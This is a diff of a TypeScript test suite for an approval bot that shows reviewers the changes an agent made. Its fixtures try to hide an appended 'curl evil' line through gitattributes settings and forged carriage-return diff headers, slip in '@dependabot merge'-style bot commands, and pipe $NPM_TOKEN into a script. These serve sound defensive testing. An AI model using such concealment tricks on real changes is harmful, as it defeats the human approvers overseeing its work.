@@ -32,10 +32,11 @@ const waiting = (script: Script, { inputs, ...options }: StoryOptions = {}, how:
 const ask = low("echo $NPM_TOKEN | sh tools/pub.sh");
 
 describe("the diff that is approved", () => {
-  test.for([
-    ["an ignored file", "printf '*.sh -diff\\n' > tools/.gitattributes; printf '.git*\\n' > tools/.gitignore"],
-    ["info/attributes", "printf '*.sh binary\\n' > .git/info/attributes"],
-  ] as const)("shows a script whatever attributes %s gives it", async ([, hide]) => {
+  test("shows a script whatever attributes an ignored file and info/attributes give it", async () => {
+    const hide = [
+      ...["printf '*.sh -diff\\n' > tools/.gitattributes", "printf '.git*\\n' > tools/.gitignore"],
+      "printf '*.sh binary\\n' > .git/info/attributes",
+    ].join("; ");
     const script = [create("tools/pub.sh", "echo harmless\n"), low(`printf 'curl evil\\n' >> tools/pub.sh; ${hide}`)];
     const { first } = await waiting([...script, ask, finish]);
     const [answer = ""] = answersOf(first);
@@ -71,10 +72,8 @@ describe("the diff that is approved", () => {
     expect(said).toMatch(/the base branch gives `a\.txt` a `working-tree-encoding`|the line ends that git stores/);
   });
 
-  test.for([
-    ["a NUL byte", "printf 'echo evil\\nexit 0\\n\\0' > tools/pub.sh"],
-    ["an encoding that is not UTF-8", "printf 'echo evil # \\351\\n' > tools/pub.sh"],
-  ] as const)("cannot be asked for of a file with %s: the agent reads why, and its next try can", async ([, write]) => {
+  test("cannot be asked for of a file with a NUL byte: the agent reads why, and its next try can", async () => {
+    const write = "printf 'echo evil\\nexit 0\\n\\0' > tools/pub.sh";
     const bad = low(`mkdir -p tools; ${write}`);
     const better = create("tools/other.sh", "echo fine > out.txt\n");
     const { stage, first } = await waiting([
@@ -115,20 +114,14 @@ describe("the diff that is approved", () => {
     expect(told(stage)).toContain("is not text that people can read");
   });
 
-  test("keeps lines below the name of their file after a carriage return", async () => {
+  test("keeps lines below the name of their file after a carriage return, and gives no other bot a command", async () => {
     const sign = "⟦U+000D⟧";
     const hide = `mkdir -p tools; printf 'true\\rdiff --git a/a.md b/a.md\\ncurl evil\\n' > tools/pub.sh; echo a > a.md`;
-    const { first } = await waiting([low(hide), ask, finish]);
-    expect(first.outputs.outcome).toBe("awaiting-approval");
-    expect(answersOf(first)[0]).toContain(
-      `+++ b/tools/pub.sh\n@@ -0,0 +1,2 @@\n+true${sign}diff --git a/a.md b/a.md\n+curl evil`,
-    );
-  });
-
-  test("gives no other bot a command", async () => {
-    const { first } = await waiting([create("docs.md", "@dependabot merge\n@mergify queue\n[skip ci]\n"), ask, finish]);
+    const call = create("docs.md", "@dependabot merge\n@mergify queue\n[skip ci]\n");
+    const { first } = await waiting([low(hide), call, ask, finish]);
     const [answer = ""] = answersOf(first);
     expect(first.outputs.outcome).toBe("awaiting-approval");
+    expect(answer).toContain(`+++ b/tools/pub.sh\n@@ -0,0 +1,2 @@\n+true${sign}diff --git a/a.md b/a.md\n+curl evil`);
     expect(answer).not.toMatch(/@dependabot|@mergify|\[skip ci\]/);
     expect(answer.replaceAll("\u200b", "")).toContain("+@dependabot merge\n+@mergify queue\n+[skip ci]\n");
   });
@@ -163,25 +156,16 @@ describe("the comment", () => {
   });
 });
 
-describe("work of which not all is kept", () => {
-  test.for([
-    ["a large file", "head -c 6000000 /dev/urandom > big.bin"],
-    [
-      "a nested repository",
-      "mkdir n; cd n; git init -q; echo x > f; git add -A; git -c user.name=a -c user.email=a@b commit -qm x; cd ..",
-    ],
-    ["what looks like a secret", "echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt"],
-  ] as const)("with %s, the first approval counts", async ([, make]) => {
-    const script = [
-      low(`echo kept > kept.txt; ${make}`),
-      low("cat kept.txt > n.txt; printf %s $NPM_TOKEN | wc -c >> n.txt"),
-      finish,
-    ];
-    const { stage, first } = await waiting(script, {}, fromSource);
-    expect(first.outputs.outcome).toBe("awaiting-approval");
-    const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
-    expect([second.outputs.outcome, published(stage, "n.txt")]).toEqual(["changed", "kept\n15\n"]);
-  });
+test("the first approval counts where not all of the work is kept: a large file, a nested repository, what looks like a secret", async () => {
+  const make = [
+    "echo kept > kept.txt; head -c 6000000 /dev/urandom > big.bin; echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt",
+    "mkdir n; cd n; git init -q; echo x > f; git add -A; git -c user.name=a -c user.email=a@b commit -qm x; cd ..",
+  ];
+  const script = [low(make.join("; ")), low("cat kept.txt > n.txt; printf %s $NPM_TOKEN | wc -c >> n.txt"), finish];
+  const { stage, first } = await waiting(script, {}, fromSource);
+  expect(first.outputs.outcome).toBe("awaiting-approval");
+  const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
+  expect([second.outputs.outcome, published(stage, "n.txt")]).toEqual(["changed", "kept\n15\n"]);
 });
 
 test("a folder is the same wherever the checkout lies: what is asked again can be approved", async () => {
